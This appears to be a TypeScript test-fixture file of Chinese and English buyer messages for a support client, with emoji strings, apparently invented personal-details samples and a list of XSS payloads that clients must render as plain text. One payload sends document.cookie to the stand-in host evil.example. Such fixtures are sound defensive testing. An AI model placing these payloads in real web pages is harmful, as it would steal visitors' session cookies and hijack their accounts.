// Chinese and English buyer texts, and the hostile inputs every client must show as text.
import type { Category } from '../../shared/domain.js';

export const TITLES_ZH: readonly string[] = [
  '关于发货',
  '商品咨询',
  '关于退货',
  '想取消订单',
  '付款问题',
];
export const BODIES_ZH: Record<Category, readonly string[]> = {
  shipping: [
    '你好，我{days}天前买的{item}还没有收到，订单号{order}，请帮忙查一下。',
    '请问什么时候发货？',
  ],
  product: ['请问{item}有{size}吗？', '这个商品是日本制造的吗？'],
  payment: ['我已经付款了，但是订单显示未支付。'],
  return: ['收到的商品有破损，可以换货吗？', '尺码不合适，想退货。'],
  cancel: ['订单号{order}，我想取消，谢谢。'],
  other: ['可以开发票吗？'],
};

export const TITLES_EN: readonly string[] = [
  'Shipping question',
  'About the product',
  'Return request',
  'Cancel my order',
  'Payment issue',
];
export const BODIES_EN: Record<Category, readonly string[]> = {
  shipping: [
    'Hi, I ordered {item} {days} days ago (order {order}) and it has not arrived yet. Could you check?',
    'When will my order ship?',
  ],
  product: ['Does {item} come in {size}?', 'Is this item compatible with overseas voltage?'],
  payment: ['My payment went through but the order still says unpaid.'],
  return: [
    'The item arrived damaged. Can I get a replacement?',
    'Wrong colour was delivered, please exchange.',
  ],
  cancel: ['Please cancel order {order}, thank you.'],
  other: ['Can you send me a receipt?'],
};

/** Markup that must never be rendered: a client showing it as HTML fails its tests. */
export const HOSTILE_TITLES: readonly string[] = [
  '<script>alert("xss")</script>配送について',
  '<b>至急</b> 返品について',
  '<img src=x onerror=alert(1)>商品について',
  '"><iframe src="javascript:alert(1)"></iframe>',
];
export const HOSTILE_BODIES: readonly string[] = [
  '<script>document.location="http://evil.example/?c="+document.cookie</script>商品が届きません。',
  '<a href="javascript:alert(1)">こちら</a>をクリックして確認してください。',
  '<style>body{display:none}</style>サイズについて質問です。',
  '&lt;escaped&gt; &amp; <unclosed <div onclick="alert(1)">クリック',
];
export const EMOJI_BODIES: readonly string[] = [
  '届きました🎉ありがとうございます😊💕',
  'サイズが合いませんでした😢 交換できますか？🙏',
  '👍👍👍 とても気に入りました！🐶🐾',
  '家族👨‍👩‍👧‍👦みんなで使っています🇯🇵',
];
/** Personal information posted in public product questions: what hiding exists for. */
export const PII_BODIES: readonly string[] = [
  '在庫があれば連絡ください。電話番号は090-1234-5678です。',
  '住所は東京都新宿区西新宿2-8-1 山田太郎です。こちらに送ってください。',
  'メールでご連絡ください。taro.yamada@example.com までお願いします。',
  '急ぎです。080-9876-5432 山田花子 大阪府大阪市北区梅田1-1-1',
];
